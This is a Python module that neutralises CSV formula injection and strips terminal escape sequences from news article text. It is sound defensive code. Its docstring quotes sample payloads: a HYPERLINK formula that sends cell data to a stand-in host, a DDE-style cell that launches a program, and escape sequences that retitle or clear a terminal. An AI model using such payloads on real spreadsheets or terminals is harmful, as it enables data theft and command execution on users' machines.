"""Article text made safe for where it is shown: a spreadsheet cell, a terminal.

News text is written by strangers, and it reaches two readers that execute what they are given:

- **A spreadsheet** evaluates a CSV cell that starts with `=`, `+`, `-` or `@` (and, in some, a
  tab, a carriage return or a NUL before them) as a formula: `=HYPERLINK("http://x.example/?"&A1)`
  sends data away, `+cmd|' /c calc'!A0` runs a program. `csv_cell` neutralises such a cell the
  way OWASP's CSV injection advice says: it puts an apostrophe before it, which spreadsheets
  read as "this cell is text" and do not show. A cell that is only a number (`-3`, `+0.5`,
  `-1e3`) is left alone: no spreadsheet reads it as a formula, and an analyst's negative
  numbers stay numbers. The full-width forms (`＝ ＋ － ＠`), which some spreadsheets also take
  as formula signs, are treated like their ASCII twins. The apostrophe is visible to a program
  reading the CSV; it is the price of a file that is safe to double-click.
- **A terminal** obeys escape sequences: `ESC ] 0 ; title BEL` renames the window, `ESC [ 2 J`
  clears the screen, `ESC ] 8 ;; URL` makes a link. `terminal_text` removes every such sequence
  and every other control character (C0, DEL, C1) except the newline and the tab, so a title
  or sentence can only ever print as itself. It does not touch `[`, so text passed on as a
  `rich.text.Text` (never as markup) prints `[/quote]` and `[link=...]` verbatim.

Every CSV writer and table printer of the package goes through these two functions.

>>> csv_cell('=HYPERLINK("http://x.example")'), csv_cell("-3"), csv_cell("Hamas")
('\\'=HYPERLINK("http://x.example")', '-3', 'Hamas')
>>> terminal_text("Kabul\\x1b]0;pwned\\x07 falls\\x1b[2J")
'Kabul falls'
"""
from __future__ import annotations

import re
from typing import Any, Iterable

__all__ = ["FORMULA_STARTS", "csv_cell", "csv_row", "terminal_text"]

# what a spreadsheet may read as the start of a formula: OWASP's list (= + - @ tab CR), NUL,
# the line feed (a cell may start with one inside quotes) and the full-width signs
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")

# an escape sequence as a whole: CSI (ESC [ ... final byte, or the one-byte CSI U+009B), OSC,
# DCS, SOS, PM and APC strings up to their terminator (BEL or ST) or the end of the text, and
# any other two-character escape
_SEQUENCE = re.compile(
    r"(?:\x1b\[|\x9b)[\x20-\x3f]*[\x40-\x7e]?"
    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)?"
    r"|\x1b[\x20-\x2f]*[\x30-\x7e]?")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def csv_cell(value: Any) -> str:
    """`value` as the text of a CSV cell that no spreadsheet runs as a formula.

    None is the empty cell; other values are their `str`. A text starting with one of
    `FORMULA_STARTS` gets a leading apostrophe, unless it is a plain number.

    >>> [csv_cell(v) for v in (None, 0.25, -1, "+33 1 23", "@SUM(A1:A9)", "\\tx", "a=b")]
    ['', '0.25', '-1', "'+33 1 23", "'@SUM(A1:A9)", "'\\tx", 'a=b']
    """
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values: Iterable[Any]) -> list[str]:
    """`csv_cell` of each value, for `csv.writer.writerow`.

    >>> csv_row(["=1+1", None, 3])
    ["'=1+1", '', '3']
    """
    return [csv_cell(v) for v in values]


def terminal_text(value: Any) -> str:
    """`value` as text a terminal prints as itself: escape sequences (CSI, OSC, DCS ...) and
    other control characters removed, newlines and tabs kept. None is the empty text.

    >>> terminal_text("\\x1b[31mred\\x1b[0m \\x9b2Jtext\\x00 [b]kept[/b]")
    'red text [b]kept[/b]'
    """
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if not _CONTROL.search(text):
        return text
    return _CONTROL.sub("", _SEQUENCE.sub("", text))
